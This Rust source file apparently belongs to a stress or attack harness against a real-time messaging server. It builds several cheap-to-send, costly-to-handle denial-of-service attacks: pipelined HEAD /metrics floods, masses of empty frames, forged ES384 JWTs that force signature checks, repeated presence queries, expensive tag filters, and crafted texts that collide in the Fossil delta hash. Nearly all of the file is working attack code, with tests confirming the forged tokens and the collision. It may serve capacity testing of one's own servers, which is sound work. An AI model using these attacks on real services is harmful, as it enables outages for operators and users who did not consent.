//! Work that costs the server much and its sender little: pages, pongs, signatures, presence,
//! filters, deltas.
//!
//! Must not know what is charged for any of it. Every client reads, so unsent bytes do not slow
//! anything down.

use super::super::Site;
use super::Attack;
use super::crowd::{self, Member};
use crate::rng::Rng;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::json;

const LOADERS: usize = 16;
const PONGERS: usize = 1_000;
const FORGERS: usize = 20;
/// Forged tokens of each forger, all different.
const TOKENS: usize = 100;
const PRESENT: usize = 2_000;
const ASKERS: usize = 40;
const FILTERS: usize = 400;
const COMPARISONS: usize = 255;
const TAGS: usize = 64;
/// Connections that publish by the server API.
const BACKENDS: usize = 4;
const PATCHERS: usize = 4;
/// Bytes of the texts between which a delta finds as much as possible to look at, and nothing to
/// use: each block of 16 has the hash of each place of the other text, where a table has as many
/// places as there are blocks, 1,440.
const PATCHED: usize = 1_440 * 16 - 2;

fn pressed(mut members: Vec<Member>) -> Attack {
    Box::new(move |until| Ok(crowd::press(&mut members, until, true).to_string()))
}

/// The page that takes longest to make, whose answer has no body.
pub fn heads_of_metrics(site: &Site) -> Result<Attack, String> {
    let block = b"HEAD /metrics HTTP/1.1\r\nHost: x\r\n\r\n".repeat(100);
    let open = |_| Member::open(&site.target, block.clone());
    Ok(pressed((0..LOADERS).map(open).collect::<Result<_, _>>()?))
}

/// Frames that ask for nothing.
pub fn pongs(site: &Site) -> Result<Attack, String> {
    let mut members = crowd::members(&site.target, PONGERS, |_| Vec::new())?;
    let block = crowd::text("{}").repeat(1_000);
    members.iter_mut().for_each(|member| member.block.clone_from(&block));
    Ok(pressed(members))
}

/// Subscription tokens that each of eight slow keys has to be tried with.
pub fn forged_tokens(site: &Site) -> Result<Attack, String> {
    let mut rng = Rng::new(0xf0f6);
    let mut members = crowd::members(&site.target, FORGERS, |_| Vec::new())?;
    for member in &mut members {
        for number in 0..TOKENS {
            let channel = format!("plain:forged-{number}");
            let token = forged(&channel, &mut rng);
            let body = json!({"channel": channel, "token": token});
            let command = json!({"id": number + 2, "subscribe": body}).to_string();
            member.block.extend(crowd::text(&command));
        }
    }
    Ok(pressed(members))
}

/// A token with everything right but its signature.
fn forged(channel: &str, rng: &mut Rng) -> String {
    let signature: Vec<u8> = (0..12).flat_map(|_| rng.next().to_be_bytes()).collect();
    let claims = json!({"sub": "", "channel": channel, "exp": 4_000_000_000_u64}).to_string();
    let parts = [br#"{"alg":"ES384","typ":"JWT"}"#.as_slice(), claims.as_bytes(), &signature];
    parts.map(|part| URL_SAFE_NO_PAD.encode(part)).join(".")
}

/// Presence of a large channel, queried again and again by many.
pub fn presence(site: &Site) -> Result<Attack, String> {
    let subscribe = json!({"id": 2, "subscribe": {"channel": "crowd:all"}}).to_string();
    let mut members = crowd::members(&site.target, PRESENT + ASKERS, |_| vec![subscribe.clone()])?;
    let ask = |id: usize| json!({"id": id + 3, "presence": {"channel": "crowd:all"}}).to_string();
    let block = crowd::texts(&(0..32).map(ask).collect::<Vec<_>>());
    members.iter_mut().take(ASKERS).for_each(|member| member.block.clone_from(&block));
    Ok(pressed(members))
}

/// Publications with as many tags as may be, to filters that are all asked and all say no.
pub fn filters(site: &Site) -> Result<Attack, String> {
    let last = format!("t{}", TAGS - 1);
    let subscribe = |number: usize| {
        let compare =
            |it: usize| json!({"key": last, "cmp": "eq", "val": format!("{number}-{it}")});
        let nodes: Vec<_> = (0..COMPARISONS).map(compare).collect();
        let filter = json!({"op": "or", "nodes": nodes});
        vec![json!({"id": 2, "subscribe": {"channel": "tagged:all", "tf": filter}}).to_string()]
    };
    let mut members = crowd::members(&site.target, FILTERS, subscribe)?;
    let tags: serde_json::Map<_, _> =
        (0..TAGS).map(|tag| (format!("t{tag}"), "x".into())).collect();
    let body = json!({"channel": "tagged:all", "data": 1, "tags": tags}).to_string();
    let length = body.len();
    let publish =
        format!("POST /api/publish HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n{body}");
    for _ in 0..BACKENDS {
        members.push(Member::open(&site.target, publish.repeat(10).into_bytes())?);
    }
    Ok(pressed(members))
}

/// Texts made up so that finding what is new between them takes longest.
pub fn deltas(site: &Site) -> Result<Attack, String> {
    let channel = |number: usize| format!("patched:{number}");
    let subscribe = |number: usize| {
        let body = json!({"channel": channel(number), "delta": "fossil"});
        vec![json!({"id": 2, "subscribe": body}).to_string()]
    };
    let mut members = crowd::members(&site.target, PATCHERS, subscribe)?;
    for (number, member) in members.iter_mut().enumerate() {
        // Ninety apart: sixteen of either have sums that are the same in a table of 1,440.
        for (id, letter) in [(3, "!"), (4, "{")] {
            let body = json!({"channel": channel(number), "data": letter.repeat(PATCHED)});
            member.block.extend(crowd::text(&json!({"id": id, "publish": body}).to_string()));
        }
    }
    Ok(pressed(members))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_token_has_the_form_of_one() {
        let token = forged("c", &mut Rng::new(1));
        let lengths: Vec<usize> = token.split('.').map(str::len).collect();
        assert_eq!((lengths[0], lengths[2]), (36, 128), "{token}");
    }

    /// Fossil's hash of sixteen equal letters.
    #[test]
    fn the_texts_collide() {
        let hash = |letter: u8| {
            let letter = u64::from(letter);
            (((letter * 16) & 0xffff) | ((letter * 136) << 16)) % 1_440
        };
        assert_eq!(hash(b'!'), hash(b'{'));
    }
}
